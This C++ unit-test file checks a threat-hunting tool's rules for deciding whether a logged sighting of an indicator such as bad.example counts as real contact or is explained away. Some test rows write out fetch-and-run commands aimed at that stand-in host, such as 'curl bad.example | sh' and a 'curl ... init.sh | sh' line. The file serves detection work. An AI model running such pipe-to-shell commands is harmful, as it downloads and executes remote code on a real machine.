#include "clew/inquiry/explanation.h"

#include "clew/inquiry/detail/scene.h"

#include <fstream>
#include <iterator>
#include <set>
#include <string>

#include <gtest/gtest.h>

namespace clew::inquiry {
namespace {

using detail::at;
using detail::event_of;
using detail::Scene;
using model::Attribute;
using model::EventClass;
using model::FindingStatus;
using model::Grade;
using model::ValueType;

constexpr std::string_view noon_text = "2030-05-10T12:00:00Z";

model::Device ordinary() { return {"desk-7", "dev7", {"10.1.0.7"}, "kim", "macOS", "employee laptop", 60}; }
model::Device analyst() { return {"lab-1", "dev1", {"10.1.9.1"}, "rue", "macOS", "security analyst workstation", 0}; }
model::Device gateway() { return {"mx-1", "", {"10.1.0.25"}, "", "appliance", "mail gateway with URL scanner", 0}; }

model::Event lookup(std::string_view ip, std::string_view answer, std::string_view rcode = "NOERROR") {
  return event_of(EventClass::dns_activity, noon_text,
                  {{Attribute::src_ip, ip},
                   {Attribute::query_hostname, "bad.example"},
                   {Attribute::query_type, "A"},
                   {Attribute::answer, answer},
                   {Attribute::rcode, rcode}});
}

model::Event connection(std::string_view ip, std::string_view to, std::string_view state,
                        std::string_view time = "2030-05-10T12:00:01Z") {
  return event_of(EventClass::network_activity, time,
                  {{Attribute::src_ip, ip},
                   {Attribute::dst_ip, to},
                   {Attribute::dst_port, "443"},
                   {Attribute::connection_state, state}});
}

void expect_explained(const model::CaseFinding& finding, std::string_view rule) {
  EXPECT_EQ(finding.status, FindingStatus::explained);
  EXPECT_EQ(finding.rule, rule);
  EXPECT_FALSE(finding.explanation.empty());
}

void expect_counts(const model::CaseFinding& finding, Grade grade) {
  EXPECT_EQ(finding.status, FindingStatus::counts) << finding.rule << ": " << finding.explanation;
  EXPECT_EQ(finding.grade, grade);
}

TEST(ExplanationRules, HaveNamesOfTheirOwn) {
  std::set<std::string_view> names;
  for (const ExplanationRule& rule : explanation_rules()) EXPECT_TRUE(names.insert(rule.name).second) << rule.name;
}

TEST(ExplanationRules, StandInTheDocs) {
  std::ifstream file(CLEW_SOURCE_DIR "/docs/explanations.md");
  const std::string docs((std::istreambuf_iterator<char>(file)), std::istreambuf_iterator<char>());
  for (const ExplanationRule& rule : explanation_rules()) {
    EXPECT_NE(docs.find("| `" + std::string(rule.name) + "` |"), std::string::npos) << rule.name;
  }
}

TEST(Lookup, CountsWhenAConnectionToTheAnswerFollowed) {
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary())
      .sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname})
      .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.7", "203.0.113.9", "SF"));
  const auto finding = scene.finding();
  expect_counts(finding, Grade::contacted);
  EXPECT_EQ(finding.device, "desk-7");
}

TEST(Lookup, OfAnotherDeviceIsNotMadeAContactBySomebodyElsesConnection) {
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary())
      .watched("zeek_conn", model::Sight::connection, noon_text)
      .sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname})
      .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.8", "203.0.113.9", "SF"));
  expect_explained(scene.finding(), "resolved-not-connected");
}

TEST(Lookup, ThatResolvedCountsAsAnAttemptWhereNobodyWatchedConnections) {
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary()).sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname});
  expect_counts(scene.finding(), Grade::attempted);
}

TEST(Lookup, TellsTheLeaseByWhichItIsOfItsDevice) {
  const auto told = [](std::string_view holder) {
    Scene scene(ValueType::domain, "bad.example");
    model::Event lease = event_of(EventClass::dhcp_activity, "2030-05-10T08:00:00Z",
                                  {{Attribute::src_ip, "10.1.0.7"}, {Attribute::device_hostname, holder}});
    lease.activity = model::activity::dhcp_ack;
    scene.scan.leases.add(lease);
    scene.scan.leases.finish();
    model::Event event = lookup("10.1.0.7", "203.0.113.9");
    event.add(Attribute::device_hostname, "desk-7");
    scene.device(ordinary()).sighting(std::move(event), {Attribute::query_hostname});
    return scene.finding().text;
  };
  EXPECT_TRUE(told("desk-7").ends_with("; 10.1.0.7 was leased to desk-7 then")) << told("desk-7");
  EXPECT_EQ(told("desk-8").find("leased"), std::string::npos);
}

TEST(Lookup, IsNotExplainedByASourceThatDoesNotKnowTheDevice) {
  const auto judged = [](std::string_view watched) {
    Scene scene(ValueType::domain, "bad.example");
    scene.device(ordinary())
        .watched("zeek_conn", model::Sight::connection, noon_text, watched)
        .sighting(lookup("10.1.0.7", "203.0.113.9"), {Attribute::query_hostname});
    return scene.finding();
  };
  expect_counts(judged("10.2.0.7"), Grade::attempted);
  expect_explained(judged("desk-7"), "resolved-not-connected");
  expect_explained(judged("dev7"), "resolved-not-connected");
}

TEST(Lookup, ByAResolverIsFollowedByAnybodysConnection) {
  model::Device resolver{"ns-1", "", {"10.1.0.53"}, "", "appliance", "DNS resolver", 0};
  const auto judged = [&](std::string_view connected_to) {
    Scene scene(ValueType::domain, "bad.example");
    scene.device(resolver)
        .watched("zeek_conn", model::Sight::connection, noon_text, "10.1.0.8")
        .sighting(lookup("10.1.0.53", "203.0.113.9"), {Attribute::query_hostname})
        .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.8", connected_to, "SF"));
    return scene.finding();
  };
  EXPECT_EQ(judged("203.0.113.9").grade, Grade::contacted);
}

TEST(Lookup, WithoutAnAnswerIsExplained) {
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary()).sighting(lookup("10.1.0.7", "", "NXDOMAIN"), {Attribute::query_hostname});
  expect_explained(scene.finding(), "lookup-unanswered");
}

TEST(Lookup, ALogOfQuestionsAloneSaysNothingOfTheAnswer) {
  const auto record = [](std::uint8_t activity, std::string_view time, std::string_view answer,
                         std::string_view rcode) {
    model::Event event = event_of(EventClass::dns_activity, time,
                                  {{Attribute::src_ip, "10.1.0.7"},
                                   {Attribute::query_hostname, "bad.example"},
                                   {Attribute::answer, answer},
                                   {Attribute::rcode, rcode}});
    event.activity = activity;
    return event;
  };
  const model::Event question = record(model::activity::dns_query, noon_text, "", "");
  Scene alone(ValueType::domain, "bad.example");
  alone.device(ordinary()).sighting(question, {Attribute::query_hostname});
  expect_counts(alone.finding(), Grade::attempted);

  Scene refused(ValueType::domain, "bad.example");
  refused.device(ordinary())
      .sighting(question, {Attribute::query_hostname})
      .sighting(record(model::activity::dns_response, "2030-05-10T12:00:02Z", "", "NXDOMAIN"),
                {Attribute::query_hostname});
  for (const auto& finding : refused.findings()) expect_explained(finding, "lookup-unanswered");

  Scene later(ValueType::domain, "bad.example");
  later.device(ordinary())
      .sighting(question, {Attribute::query_hostname})
      .sighting(record(model::activity::dns_response, "2030-05-10T12:05:00Z", "", "NXDOMAIN"),
                {Attribute::query_hostname});
  EXPECT_EQ(later.findings().size(), 2U) << "that is the answer to another question";

  Scene answered(ValueType::domain, "bad.example");
  answered.device(ordinary())
      .sighting(question, {Attribute::query_hostname})
      .sighting(record(model::activity::dns_response, noon_text, "203.0.113.9", "NOERROR"), {Attribute::query_hostname})
      .around(ValueType::ipv4, "203.0.113.9", connection("10.1.0.7", "203.0.113.9", "SF"));
  for (const auto& finding : answered.findings()) expect_counts(finding, Grade::contacted);
}

TEST(Request, OfWhichNothingTellsTheOutcomeIsNoRefusal) {
  const auto request = [](model::Status status, std::string_view code) {
    model::Event event = event_of(
        EventClass::http_activity, noon_text,
        {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, code}});
    event.status = status;
    return event;
  };
  const auto judged = [&](const model::Event& event) {
    Scene scene(ValueType::domain, "bad.example");
    scene.device(ordinary()).sighting(event, {Attribute::http_host});
    return scene.finding();
  };
  expect_counts(judged(request(model::Status::unknown, "")), Grade::attempted);
  expect_counts(judged(request(model::Status::success, "")), Grade::contacted);
  expect_counts(judged(request(model::Status::failure, "404")), Grade::contacted);
  expect_explained(judged(request(model::Status::failure, "")), "refused");
  expect_explained(judged(request(model::Status::failure, "000")), "refused");
  Scene from(ValueType::ipv4, "203.0.113.9");
  from.device(ordinary())
      .sighting(event_of(EventClass::http_activity, noon_text, {{Attribute::src_ip, "203.0.113.9"}}),
                {Attribute::src_ip});
  expect_counts(from.finding(), Grade::attempted);
}

TEST(HostOfAUrl, SeenAloneIsNoContactWithThePage) {
  const auto tunnel = event_of(EventClass::http_activity, noon_text,
                               {{Attribute::src_ip, "10.1.0.7"},
                                {Attribute::dst_hostname, "bad.example"},
                                {Attribute::http_method, "CONNECT"},
                                {Attribute::http_status, "200"}});
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary()).host_of("https://bad.example/a").sighting(tunnel, {Attribute::dst_hostname});
  const auto finding = scene.finding();
  expect_counts(finding, Grade::attempted);
  EXPECT_NE(finding.text.find("the host of a published URL"), std::string::npos) << finding.text;
}

TEST(Lookup, AnsweredWithNowhereIsSinkholed) {
  for (const std::string_view nowhere : {"0.0.0.0", "127.0.0.1", "::", "10.1.0.250"}) {
    Scene scene(ValueType::domain, "bad.example");
    scene.device(ordinary()).sighting(lookup("10.1.0.7", nowhere), {Attribute::query_hostname});
    expect_explained(scene.finding(), "sinkholed");
  }
}

TEST(Connection, ToTheBlockPageOfTheOwnResolverIsNoContactButThroughAProxyItIs) {
  const auto handshake = event_of(EventClass::network_activity, noon_text,
                                  {{Attribute::src_ip, "10.1.0.7"},
                                   {Attribute::dst_ip, "10.1.0.250"},
                                   {Attribute::dst_port, "443"},
                                   {Attribute::tls_sni, "bad.example"},
                                   {Attribute::tls_established, "true"}});
  Scene block_page(ValueType::domain, "bad.example");
  block_page.device(ordinary())
      .sighting(lookup("10.1.0.7", "10.1.0.250"), {Attribute::query_hostname})
      .sighting(handshake, {Attribute::tls_sni});
  for (const auto& finding : block_page.findings()) expect_explained(finding, "sinkholed");
  Scene proxy(ValueType::domain, "bad.example");
  proxy.device(ordinary()).sighting(handshake, {Attribute::tls_sni});
  expect_counts(proxy.finding(), Grade::contacted);
}

TEST(File, RunByAnInterpreterWithAVersionInItsName) {
  Scene scene(ValueType::md5, "00112233445566778899aabbccddeeff");
  scene.file("osquery")
      .device(ordinary())
      .sighting(event_of(EventClass::file_activity, noon_text,
                         {{Attribute::device_hostname, "desk-7"},
                          {Attribute::file_path, "/tmp/setup.py"},
                          {Attribute::file_md5, "00112233445566778899aabbccddeeff"}}),
                {Attribute::file_md5})
      .around(ValueType::file_name, "setup.py",
              event_of(EventClass::process_activity, noon_text,
                       {{Attribute::device_hostname, "desk-7"},
                        {Attribute::process_path, "/usr/bin/python3.11"},
                        {Attribute::process_cmd_line, "python3.11 setup.py"}}));
  expect_counts(scene.finding(), Grade::executed);
}

TEST(Lookup, ReversedIsNoContact) {
  Scene scene(ValueType::domain, "bad.example");
  scene.device(ordinary())
      .sighting(event_of(EventClass::dns_activity, noon_text,
                         {{Attribute::src_ip, "10.1.0.7"},
                          {Attribute::query_hostname, "9.113.0.203.in-addr.arpa"},
                          {Attribute::query_type, "PTR"},
                          {Attribute::answer, "bad.example"}}),
                {Attribute::answer});
  expect_explained(scene.finding(), "reverse-lookup");
}

TEST(Connection, EstablishedCountsAndRefusedDoesNot) {
  Scene established(ValueType::ipv4, "203.0.113.9");
  established.file("zeek_conn")
      .device(ordinary())
      .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_counts(established.finding(), Grade::contacted);
  for (const std::string_view state : {"S0", "REJ", "SH", "OTH"}) {
    Scene refused(ValueType::ipv4, "203.0.113.9");
    refused.file("zeek_conn")
        .device(ordinary())
        .sighting(connection("10.1.0.7", "203.0.113.9", state), {Attribute::dst_ip});
    expect_explained(refused.finding(), "refused");
  }
}

/// A firewall tells that it let a connection through, and in a record of its own how that ended.
TEST(Connection, LetThroughCountsUnlessItsEndTellsThatNobodyAnswered) {
  const auto record = [](std::uint8_t activity, std::string_view time, std::string_view flow, std::string_view to) {
    model::Event event = event_of(EventClass::network_activity, time,
                                  {{Attribute::src_ip, "10.1.0.7"},
                                   {Attribute::src_port, "50022"},
                                   {Attribute::dst_ip, to},
                                   {Attribute::connection_uid, flow}});
    event.activity = activity;
    return event;
  };
  const auto judged = [&](std::initializer_list<model::Event> around) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.device(ordinary())
        .sighting(record(model::activity::network_open, noon_text, "7", "203.0.113.9"), {Attribute::dst_ip});
    for (const model::Event& event : around) scene.around(ValueType::account, "7", event);
    return scene.finding();
  };
  using namespace model::activity;
  const std::string_view soon = "2030-05-10T12:00:30Z";
  const model::Event failed = record(network_fail, soon, "7", "203.0.113.9");
  expect_counts(judged({}), Grade::contacted);
  expect_explained(judged({failed}), "refused");
  expect_counts(judged({record(network_close, soon, "7", "203.0.113.9")}), Grade::contacted);
  expect_counts(judged({failed, record(network_close, soon, "7", "203.0.113.9")}), Grade::contacted);
  // Numbers of flows are used again: by another flow, before, and long after.
  expect_counts(judged({record(network_fail, soon, "8", "203.0.113.9")}), Grade::contacted);
  expect_counts(judged({record(network_fail, soon, "7", "203.0.113.10")}), Grade::contacted);
  expect_counts(judged({record(network_fail, "2030-05-10T11:59:59Z", "7", "203.0.113.9")}), Grade::contacted);
  expect_counts(judged({record(network_fail, "2030-05-10T12:05:01Z", "7", "203.0.113.9")}), Grade::contacted);
}

/// Some sensors put the command line of who connected into the record of the connection.
TEST(Connection, ARequestThatTheServerTurnedAwayIsAnAttempt) {
  struct Row {
    std::string_view status;
    Grade grade;
  };
  for (const Row& row : {Row{"200", Grade::contacted}, Row{"302", Grade::contacted}, Row{"404", Grade::attempted},
                         Row{"403", Grade::attempted}, Row{"500", Grade::contacted}}) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.file("web_access")
        .sighting(event_of(EventClass::http_activity, noon_text,
                           {{Attribute::device_hostname, "web-1"},
                            {Attribute::src_ip, "203.0.113.9"},
                            {Attribute::http_method, "POST"},
                            {Attribute::http_path, "/a.php"},
                            {Attribute::http_status, row.status}}),
                  {Attribute::src_ip});
    const model::CaseFinding finding = scene.finding();
    EXPECT_EQ(finding.grade, row.grade) << row.status;
    EXPECT_NE(finding.text.find("POST /a.php"), std::string::npos) << finding.text;
  }
}

TEST(Connection, AGatewayIsTheDeviceOfWhatItsOwnServerWasAsked) {
  const auto device_of_finding = [](std::string_view file_device) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    model::Device gateway;
    gateway.hostname = "gw-1";
    gateway.role = "VPN gateway";
    scene.device(std::move(gateway)).file("web_access");
    scene.scan.files[0].device = file_device;
    scene.sighting(event_of(EventClass::http_activity, noon_text,
                            {{Attribute::device_hostname, "gw-1"},
                             {Attribute::src_ip, "203.0.113.9"},
                             {Attribute::http_status, "200"}}),
                   {Attribute::src_ip});
    return scene.finding().device;
  };
  EXPECT_EQ(device_of_finding("gw-1"), "gw-1");
  EXPECT_EQ(device_of_finding(""), "") << "a record of what passed through it";
}

TEST(Connection, FromOutsideIsOfTheMachineThatWasAsked) {
  const auto device_of_finding = [](std::string_view source) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    model::Device server;
    server.hostname = "mft-1";
    server.ips = {"10.30.0.15"};
    scene.device(std::move(server));
    scene.sighting(
        event_of(EventClass::http_activity, noon_text,
                 {{Attribute::src_ip, source}, {Attribute::dst_ip, "10.30.0.15"}, {Attribute::http_status, "200"}}),
        {Attribute::src_ip});
    return scene.finding().device;
  };
  EXPECT_EQ(device_of_finding("203.0.113.9"), "mft-1");
  EXPECT_EQ(device_of_finding("10.0.0.7"), "10.0.0.7");
}

TEST(Connection, ByACommandThatNamesAListedHostIsNoOtherRequest) {
  const auto judged = [](std::string_view program) {
    Scene scene(ValueType::domain, "bad.example");
    scene.device(ordinary())
        .sighting(event_of(EventClass::network_activity, noon_text,
                           {{Attribute::src_ip, "10.1.0.7"},
                            {Attribute::dst_ip, "198.51.100.9"},
                            {Attribute::actor_process_path, program},
                            {Attribute::process_cmd_line, "curl https://bad.example/x"}}),
                  {Attribute::process_cmd_line});
    return scene.finding();
  };
  expect_counts(judged("/usr/bin/curl"), Grade::executed);
  expect_counts(judged("/opt/agent"), Grade::mentioned);
  expect_counts(judged(""), Grade::executed);
}

TEST(Connection, ToAnotherPortThanThePublishedOneIsExplained) {
  Scene scene(ValueType::ipv4, "203.0.113.9:8443");
  scene.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_explained(scene.finding(), "other-port");
}

TEST(Connection, ThroughAResolverOrProxyBelongsToADeviceThatIsNotKnown) {
  Scene scene(ValueType::ipv4, "203.0.113.9");
  scene.file("zeek_conn")
      .device({"proxy-1", "", {"10.1.0.3"}, "", "appliance", "web proxy", 0})
      .sighting(connection("10.1.0.3", "203.0.113.9", "SF"), {Attribute::dst_ip});
  const auto finding = scene.finding();
  expect_counts(finding, Grade::contacted);
  EXPECT_EQ(finding.device, "");
  EXPECT_NE(finding.text.find("behind proxy-1"), std::string::npos);
}

TEST(Validity, OutsideThePublishedTimeIsExplainedAndInsideCounts) {
  struct Case {
    std::string_view name, from, to;
    bool counts;
  };
  for (const Case& c :
       {Case{"inside", "2030-05-01", "2030-06-01", true}, Case{"before", "2030-05-11", "2030-06-01", false},
        Case{"after", "2030-01-01", "2030-05-10", false}, Case{"last_day", "2030-01-01", "2030-05-11", true}}) {
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.indicators[0].valid = {at(c.from), at(c.to)};
    scene.file("zeek_conn")
        .device(ordinary())
        .sighting(connection("10.1.0.7", "203.0.113.9", "SF", noon_text), {Attribute::dst_ip});
    const auto finding = scene.finding();
    EXPECT_EQ(finding.status == FindingStatus::counts, c.counts) << c.name;
    EXPECT_EQ(finding.rule, c.counts ? "" : "outside-validity") << c.name;
  }
}

TEST(Validity, YearsBeforePublicationItWasSomebodyElses) {
  Scene old(ValueType::ipv4, "203.0.113.9");
  old.indicators[0].published = "2034-01";
  old.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_explained(old.finding(), "long-before-publication");
  Scene recent(ValueType::ipv4, "203.0.113.9");
  recent.indicators[0].published = "2031-06-01";
  recent.file("zeek_conn")
      .device(ordinary())
      .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_counts(recent.finding(), Grade::contacted);
}

TEST(Research, OfAnAnalystIsExplainedButContactIsNot) {
  const auto command = [](std::string_view line) {
    return event_of(EventClass::process_activity, noon_text,
                    {{Attribute::device_hostname, "lab-1"},
                     {Attribute::process_path, "/usr/local/bin/notebook"},
                     {Attribute::process_cmd_line, line}});
  };
  Scene looked(ValueType::domain, "bad.example");
  looked.file("osquery").device(analyst()).sighting(command("notebook open bad.example"),
                                                    {Attribute::process_cmd_line});
  expect_explained(looked.finding(), "analyst-research");

  Scene contact(ValueType::ipv4, "203.0.113.9");
  contact.file("zeek_conn")
      .device(analyst())
      .sighting(connection("10.1.9.1", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_counts(contact.finding(), Grade::contacted);
}

TEST(Research, AScriptOfAnAnalystIsHandedTheValueAndDoesNotRunIt) {
  struct Row {
    std::string_view program, line;
    bool explained;
  };
  for (const Row& row : {Row{"/usr/bin/python3", "python3 hunt.py --domain bad.example", true},
                         {"/usr/bin/python3", "python3 -c 'import urllib; urlopen(\"http://bad.example\")'", false},
                         {"/usr/bin/curl", "curl -O https://bad.example/x", false},
                         {"/bin/bash", "/bin/bash -c \"curl bad.example | sh\"", false}}) {
    Scene scene(ValueType::domain, "bad.example");
    scene.file("osquery").device(analyst()).sighting(event_of(EventClass::process_activity, noon_text,
                                                              {{Attribute::device_hostname, "lab-1"},
                                                               {Attribute::process_path, row.program},
                                                               {Attribute::process_cmd_line, row.line}}),
                                                     {Attribute::process_cmd_line});
    EXPECT_EQ(scene.finding().status == FindingStatus::explained, row.explained) << row.line;
  }
  Scene elsewhere(ValueType::domain, "bad.example");
  elsewhere.file("osquery")
      .device(ordinary())
      .sighting(event_of(EventClass::process_activity, noon_text,
                         {{Attribute::device_hostname, "desk-7"},
                          {Attribute::process_path, "/usr/bin/python3"},
                          {Attribute::process_cmd_line, "python3 sync.py --to bad.example"}}),
                {Attribute::process_cmd_line});
  expect_counts(elsewhere.finding(), Grade::executed);
}

TEST(SearchCommand, LookingAtAListedFileIsNotRunningIt) {
  struct Row {
    std::string_view program, line;
    bool explained;
  };
  for (const Row& row : {Row{"/bin/ls", "ls -la /opt/x/run", true},
                         {"/usr/bin/shasum", "shasum -a 256 /opt/x/run", true},
                         {"/bin/test", "test -e /opt/x/run", true},
                         {"C:\\W\\powershell.exe", "powershell.exe -Command \"Test-Path '/opt/x/run'\"", true},
                         {"C:\\W\\powershell.exe",
                          "powershell.exe -c \"if (Test-Path '/opt/x/run') { Start-Process '/opt/x/run' }\"", false},
                         {"/bin/chmod", "chmod 755 /opt/x/run", false},
                         {"/bin/launchctl", "launchctl load /opt/x/run", false}}) {
    Scene scene(ValueType::file_path, "/opt/x/run");
    scene.file("osquery")
        .device(ordinary())
        .sighting(event_of(EventClass::process_activity, noon_text,
                           {{Attribute::device_hostname, "desk-7"},
                            {Attribute::process_path, row.program},
                            {Attribute::process_cmd_line, row.line}}),
                  {Attribute::process_cmd_line});
    EXPECT_EQ(scene.finding().status == FindingStatus::explained, row.explained) << row.line;
  }
}

TEST(SearchCommand, OfATypedLineTheCommandThatNamesTheValueTells) {
  struct Row {
    std::string_view line;
    Grade grade;
  };
  for (const Row& row :
       {Row{"npm test; grep -r bad.example node_modules", Grade::mentioned},
        Row{"cd /srv && sudo grep bad.example x | head", Grade::mentioned},
        Row{"grep x /var/log/y; curl https://bad.example/a", Grade::executed},
        Row{"curl https://bad.example/a; grep bad.example x", Grade::executed},
        Row{"grep bad.example x && wget bad.example/a", Grade::executed},
        Row{"pip list | grep bad.example", Grade::mentioned}, Row{"npm view bad.example", Grade::mentioned},
        Row{"npm install bad.example", Grade::executed}}) {
    Scene scene(ValueType::domain, "bad.example");
    scene.file("shell_history")
        .sighting(event_of(EventClass::process_activity, noon_text, {{Attribute::process_cmd_line, row.line}}),
                  {Attribute::process_cmd_line});
    EXPECT_EQ(scene.finding().grade, row.grade) << row.line;
  }
}

TEST(SearchCommand, IsExplainedOnAnyDeviceAndAFetchCounts) {
  const auto command = [](std::string_view path, std::string_view line) {
    return event_of(
        EventClass::process_activity, noon_text,
        {{Attribute::device_hostname, "desk-7"}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
  };
  Scene search(ValueType::domain, "bad.example");
  search.file("osquery")
      .device(ordinary())
      .sighting(command("/usr/bin/grep", "grep -r bad.example /var/log"), {Attribute::process_cmd_line});
  expect_explained(search.finding(), "search-command");
  Scene fetch(ValueType::domain, "bad.example");
  fetch.file("osquery")
      .device(ordinary())
      .sighting(command("/usr/bin/curl", "curl -O https://bad.example/x"), {Attribute::process_cmd_line});
  expect_counts(fetch.finding(), Grade::executed);
}

TEST(LinkScanner, IsExplainedUntilItComesBackTooOften) {
  Scene scan_once(ValueType::ipv4, "203.0.113.9");
  scan_once.file("zeek_conn")
      .device(gateway())
      .sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
  expect_explained(scan_once.finding(), "link-scanner");
  Scene beacon(ValueType::ipv4, "203.0.113.9");
  beacon.file("zeek_conn")
      .device(gateway())
      .sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
  beacon.scan.kept[0].records = 500;
  expect_counts(beacon.finding(), Grade::contacted);
}

TEST(File, ThatRanCountsAsExecutedAndOneThatOnlyLiesThereAsAttempted) {
  const auto file = [] {
    return event_of(EventClass::file_activity, noon_text,
                    {{Attribute::device_hostname, "desk-7"},
                     {Attribute::file_path, "/private/tmp/setup.rb"},
                     {Attribute::file_md5, "00112233445566778899aabbccddeeff"}});
  };
  const auto run = [](std::string_view host, std::string_view path, std::string_view line) {
    return event_of(
        EventClass::process_activity, noon_text,
        {{Attribute::device_hostname, host}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
  };
  Scene ran(ValueType::md5, "00112233445566778899aabbccddeeff");
  ran.file("osquery")
      .device(ordinary())
      .sighting(file(), {Attribute::file_md5})
      .around(ValueType::file_name, "setup.rb", run("desk-7", "/usr/bin/ruby", "ruby setup.rb"));
  expect_counts(ran.finding(), Grade::executed);

  Scene elsewhere(ValueType::md5, "00112233445566778899aabbccddeeff");
  elsewhere.file("osquery")
      .device(ordinary())
      .sighting(file(), {Attribute::file_md5})
      .around(ValueType::file_name, "setup.rb", run("desk-8", "/usr/bin/ruby", "ruby setup.rb"));
  expect_counts(elsewhere.finding(), Grade::attempted);
}

TEST(File, ThatStartedAnotherProgramHasRun) {
  Scene scene(ValueType::file_path, "/opt/x/helperd");
  scene.file("osquery")
      .device(ordinary())
      .sighting(event_of(EventClass::process_activity, noon_text,
                         {{Attribute::device_hostname, "desk-7"},
                          {Attribute::process_path, "/bin/sh"},
                          {Attribute::parent_process_path, "/opt/x/helperd"}}),
                {Attribute::parent_process_path});
  expect_counts(scene.finding(), Grade::executed);
}

TEST(Launch, KnownByItsCommandLineAloneIsJudgedByTheFirstWord) {
  struct Row {
    std::string_view command;
    Grade grade;
  };
  for (const Row& row : {Row{"sh -c curl -s https://bad.example/p/init.sh | sh", Grade::executed},
                         Row{R"("C:\Program Files\Git\curl.exe" https://bad.example/a b)", Grade::executed},
                         Row{"say https://bad.example/curl", Grade::mentioned}}) {
    Scene scene(ValueType::domain, "bad.example");
    auto event = event_of(EventClass::process_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"}, {Attribute::process_cmd_line, row.command}});
    scene.file("auditd").sighting(std::move(event), {Attribute::process_cmd_line});
    EXPECT_EQ(scene.finding().grade, row.grade) << row.command;
  }
}

TEST(File, ThatIsALibraryRunsInTheProgramThatLoadsIt) {
  const auto opened = [](std::string_view path, std::string_view by) {
    Scene scene(ValueType::sha256, std::string(64, 'a'));
    auto event = event_of(EventClass::file_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"},
                           {Attribute::file_path, path},
                           {Attribute::file_sha256, std::string(64, 'a')}});
    if (!by.empty()) event.add(Attribute::actor_process_path, by);
    event.activity = model::activity::file_open;
    scene.file("windows_events").sighting(std::move(event), {Attribute::file_sha256});
    return scene.finding().grade;
  };
  EXPECT_EQ(opened(R"(C:\Phone\codec.DLL)", R"(C:\Phone\phone.exe)"), Grade::executed);
  EXPECT_EQ(opened(R"(C:\Phone\codec.zip)", R"(C:\Phone\phone.exe)"), Grade::attempted);
  EXPECT_EQ(opened("/usr/lib/codec.so", ""), Grade::attempted);
}

TEST(Blocked, ByAControlIsExplained) {
  Scene scene(ValueType::domain, "bad.example");
  auto event = event_of(
      EventClass::http_activity, noon_text,
      {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, "403"}});
  event.disposition = model::Disposition::blocked;
  scene.file("squid_access").device(ordinary()).sighting(std::move(event), {Attribute::http_host});
  expect_explained(scene.finding(), "blocked");
}

TEST(Blocked, AProgramThatWasRefusedHasNotRun) {
  for (const auto disposition : {model::Disposition::blocked, model::Disposition::quarantined}) {
    Scene scene(ValueType::sha256, std::string(64, 'a'));
    auto event = event_of(EventClass::process_activity, noon_text,
                          {{Attribute::device_hostname, "desk-7"},
                           {Attribute::process_path, "/opt/x/run"},
                           {Attribute::file_sha256, std::string(64, 'a')}});
    event.activity = model::activity::process_launch;
    event.disposition = disposition;
    scene.file("santa").sighting(std::move(event), {Attribute::file_sha256});
    const auto finding = scene.finding();
    expect_explained(finding, "blocked");
    EXPECT_EQ(finding.grade, Grade::attempted);
  }
}

model::Event sign_in(std::string_view ip, std::string_view type, std::string_view mfa, std::string_view os,
                     bool success = true) {
  auto event = event_of(EventClass::authentication, noon_text,
                        {{Attribute::src_ip, ip},
                         {Attribute::actor_user_name, "kim"},
                         {Attribute::actor_user_type, type},
                         {Attribute::is_mfa, mfa},
                         {Attribute::client_os, os},
                         {Attribute::user_agent, "Safari"},
                         {Attribute::device_uid, "dev7"},
                         {Attribute::event_code, "sso_auth"}});
  event.status = success ? model::Status::success : model::Status::failure;
  return event;
}

TEST(SharedExit, ExplainsAnOrdinarySignInOnly) {
  struct Case {
    std::string_view name, type, mfa, os;
    bool counts;
  };
  for (const Case& c :
       {Case{"usual", "user", "true", "macOS", false}, Case{"no_second_factor", "user", "false", "macOS", true},
        Case{"admin", "admin", "true", "macOS", true}, Case{"strange_client", "user", "true", "Linux", true}}) {
    // The inventory gives this device to nobody, so that only the client can speak for the sign-in.
    Scene scene(ValueType::ipv4, "203.0.113.9");
    scene.file("jumpcloud_directory_insights")
        .sighting(sign_in("203.0.113.9", c.type, c.mfa, c.os), {Attribute::src_ip})
        .around(ValueType::account, "kim", sign_in("198.51.100.1", "user", "true", "macOS"));
    const auto finding = scene.finding();
    EXPECT_EQ(finding.status == FindingStatus::counts, c.counts) << c.name << " " << finding.rule;
    EXPECT_EQ(finding.grade, Grade::authenticated) << c.name;
  }
}

TEST(SharedExit, TakesASecondFactorFromARecordOfTheSameSession) {
  const auto in_session = [](std::string_view ip, std::string_view mfa, std::string_view session) {
    auto event = event_of(EventClass::authentication, noon_text,
                          {{Attribute::src_ip, ip},
                           {Attribute::actor_user_name, "kim"},
                           {Attribute::client_os, "macOS"},
                           {Attribute::user_agent, "Safari"},
                           {Attribute::correlation_uid, session}});
    if (!mfa.empty()) event.add(Attribute::is_mfa, mfa);
    event.status = model::Status::success;
    return event;
  };
  for (const std::string_view session : {"session-1", "session-2"}) {
